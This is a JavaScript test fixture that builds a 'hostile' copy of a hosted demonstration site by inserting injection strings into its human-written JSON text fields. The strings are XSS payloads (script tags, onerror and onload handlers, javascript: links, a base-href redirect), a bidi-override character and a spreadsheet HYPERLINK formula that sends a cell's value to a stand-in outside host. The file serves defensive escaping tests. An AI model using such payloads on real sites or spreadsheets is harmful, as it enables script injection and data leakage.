// A situation whose every text is meant to do harm: markup, script addresses, formulas, signs that turn text round.
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { root } from './outputs.mjs';

export const marks = ['<img src="/hacked.png" onerror="hacked=1">', '"><script>hacked=1</script>', "' onmouseover='hacked=1", 'javascript:hacked=1',
  '</title></svg><svg onload="hacked=1">', '\u202Edlos\u202C\u2066', '&lt;b&gt;', '<a href="javascript:hacked=1">länk</a>', '<base href="//elsewhere.example/">'];
export const formula = '=HYPERLINK("http://elsewhere.example/?"&A1;"x")';

// What people write; all else (ids, days, words of the format) has a meaning of its own.
const written = new Set(['title', 'name', 'note', 'notes', 'reason', 'minutes', 'text', 'problem', 'cause', 'causes', 'expected', 'measure_of_success', 'present',
  'unit', 'district', 'examples', 'goal', 'goals', 'by']);

function spoiled(value, key = '', count = { n: 0 }) {
  if (typeof value === 'string') {
    if (!written.has(key)) return value;
    count.n += 1;
    const mark = marks[count.n % marks.length];
    return key === 'name' && count.n % 2 ? `${formula}${mark}${value}` : `${value} ${mark}`;
  }
  if (Array.isArray(value)) return value.map((each) => spoiled(each, key, count));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, spoiled(each, name === 'sv' || name === 'en' ? key : name, count)]));
}

/// dist/hosted with the demonstration's texts spoiled, in a folder of its own.
export function hostileSite() {
  const folder = mkdtempSync(join(tmpdir(), 'lagesbild-hostile-'));
  cpSync(join(root, 'dist', 'hosted'), folder, { recursive: true });
  const data = join(folder, 'data');
  for (const name of readdirSync(data).filter((each) => /\.(geo)?json$/.test(each))) {
    writeFileSync(join(data, name), JSON.stringify(spoiled(JSON.parse(readFileSync(join(data, name), 'utf8')))));
  }
  return { folder, remove: () => rmSync(folder, { recursive: true }) };
}
